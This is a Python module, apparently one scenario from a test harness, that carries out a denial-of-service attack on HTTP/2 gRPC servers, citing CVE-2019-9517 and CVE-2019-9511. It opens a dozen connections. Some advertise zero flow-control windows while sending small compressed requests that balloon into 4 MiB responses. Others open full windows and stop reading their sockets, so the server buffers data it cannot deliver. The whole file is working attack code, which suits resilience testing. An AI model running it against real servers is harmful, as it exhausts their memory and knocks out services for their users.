"""Responses that are never read (CVE-2019-9517, "internal data buffering", and CVE-2019-9511):
small compressed requests make responses of 4 MiB, and the peer takes no byte of them.

200 calls a connection. Two of every three connections open no window
(SETTINGS_INITIAL_WINDOW_SIZE 0) and acknowledge PINGs; half of them accept compressed responses.
The third opens all windows, and never reads its socket.
"""

import asyncio

from support import frames, grpc, zstd
from support.connection import STREAMS, Attack, Connection

CONNECTIONS = 12
NO_WINDOW = {frames.INITIAL_WINDOW_SIZE: 0}
ALL_WINDOW = {frames.INITIAL_WINDOW_SIZE: 0x7FFF_FFFF}


async def attack(attack: Attack) -> None:
    await asyncio.gather(
        attack.keep(CONNECTIONS * 2 // 3, answer_pings, NO_WINDOW),
        attack.keep(CONNECTIONS // 3, read_nothing, ALL_WINDOW),
    )


async def answer_pings(connection: Connection, number: int) -> None:
    fields = [("grpc-encoding", "gzip")]
    if number % 2:
        fields.append(("grpc-accept-encoding", "gzip"))
    message = grpc.message(GZIPPED, compressed=True)
    # Calls whose request does not fit into the connection's window yet.
    unsent: set[int] = set()
    while not connection.is_closed:
        while len(connection.streams) < STREAMS and not connection.is_full:
            unsent.add(connection.request(grpc.CALL, fields))
            if connection.is_closed:
                return
        unsent = {stream for stream in unsent if stream in connection.streams}
        for stream in list(unsent):
            if connection.room(stream) < len(message):
                break
            connection.send_data(stream, message, end=True)
            unsent.discard(stream)
        await connection.turn(0)


async def read_nothing(connection: Connection, number: int) -> None:
    connection.write(frames.window_update(0, 0x7FFF_0000))
    if not connection.is_closed:
        connection.transport.pause_reading()
    # The message is so small that all requests fit into the first window of a connection.
    message = grpc.message(ZSTANDARD, compressed=True)
    for _ in range(STREAMS):
        stream = connection.request(grpc.CALL, [("grpc-encoding", "zstd")])
        connection.send_data(stream, message, end=True)
    # A client that does not read notices the end of its connection only when it writes.
    while not connection.is_closed:
        await asyncio.sleep(1)
        connection.write(frames.frame(frames.PING, 0, 0, bytes(8)))


LARGEST = grpc.largest_request()
GZIPPED = grpc.gzip(LARGEST)
ZSTANDARD = zstd.frame(LARGEST[:16], len(LARGEST) - 16)
